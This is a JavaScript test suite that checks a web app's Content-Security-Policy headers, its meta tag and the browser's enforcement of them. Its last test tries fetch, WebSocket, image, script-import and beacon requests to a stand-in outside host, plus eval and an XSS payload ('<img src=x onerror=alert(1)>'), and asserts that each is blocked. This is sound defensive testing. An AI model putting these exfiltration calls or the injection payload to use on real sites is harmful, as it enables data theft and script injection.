// The security policy: every file carries it, the page repeats it, and the browser enforces it.
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import path from "node:path";
import { test } from "node:test";
import { visit } from "../stage/browser.mjs";
import { app } from "../stage/places.mjs";
import { suite } from "../stage/suite.mjs";

const { server, wire, browser } = await suite({ recorded: true });

async function names() {
  const html = await readFile(path.join(app, "index.html"), "utf8");
  const pair = (name) => html.match(new RegExp(`name="${name}" content="([^"]+)"`))[1].split(" ");
  return { html, engine: pair("sanpo-engine"), page: pair("sanpo-page") };
}

test("every file carries the headers", async () => {
  const { engine, page } = await names();
  for (const file of ["", "sw.js", "boot.js", "samples/index.json", "no-such-file", ...engine, ...page]) {
    const { headers } = await fetch(server.url + file);
    assert.match(headers.get("content-security-policy"), /^default-src 'none'; script-src 'self' 'wasm-unsafe-eval';/);
    assert.equal(headers.get("connection-allowlist"), "(response-origin)");
    assert.equal(headers.get("x-content-type-options"), "nosniff");
  }
});

test("types and times of the files are right", async () => {
  const { engine, page } = await names();
  const expected = { "": /^text\/html/, "sw.js": /^text\/javascript/, [engine[1]]: /^application\/wasm$/, [page[0]]: /javascript/ };
  for (const [file, type] of Object.entries(expected)) {
    assert.match((await fetch(server.url + file)).headers.get("content-type"), type);
  }
  assert.equal((await fetch(`${server.url}sw.js`)).headers.get("cache-control"), "no-cache");
  assert.match((await fetch(server.url + engine[1])).headers.get("cache-control"), /immutable/);
});

test("the page repeats the policy and has no inline script", async () => {
  const { html } = await names();
  assert.match(html, /<meta http-equiv="Content-Security-Policy" content="default-src 'none';/);
  for (const [, attributes, content] of html.matchAll(/<script([^>]*)>([^<]*)<\/script>/g)) {
    assert.match(attributes, /src="\.\//);
    assert.equal(content.trim(), "");
  }
});

test("what the page's own code might try does not get out", async () => {
  const { page, context } = await visit(browser, server.url);
  const elsewhere = "http://elsewhere.test/";
  const before = wire.sent.length;
  const outcomes = await page.evaluate(async (elsewhere) => {
    const tries = {
      fetch: () => fetch(elsewhere, { mode: "no-cors" }),
      socket: () => new Promise((yes, no) => {
        const socket = new WebSocket(elsewhere.replace("http", "ws"));
        socket.onopen = yes;
        socket.onerror = no;
      }),
      image: () => new Promise((yes, no) => {
        const image = new Image();
        image.onload = yes;
        image.onerror = no;
        image.src = `${elsewhere}image.png`;
      }),
      script: () => import(`${elsewhere}script.js`),
      eval: async () => (0, eval)("1"),
      markup: async () => {
        document.createElement("div").innerHTML = "<img src=x onerror=alert(1)>";
      },
    };
    const results = {};
    for (const [name, attempt] of Object.entries(tries)) {
      results[name] = await attempt().then(() => "open", () => "closed");
    }
    results.beacon = navigator.sendBeacon(`${elsewhere}beacon`, "x");
    return results;
  }, elsewhere);
  for (const name of ["fetch", "socket", "image", "script", "eval", "markup"]) assert.equal(outcomes[name], "closed", name);
  await page.waitForTimeout(300);
  const tried = wire.sent.slice(before).filter(({ url }) => url.includes("elsewhere.test"));
  assert.deepEqual(tried.map(({ method, url }) => `${method} ${url}`), []);
  await context.close();
});
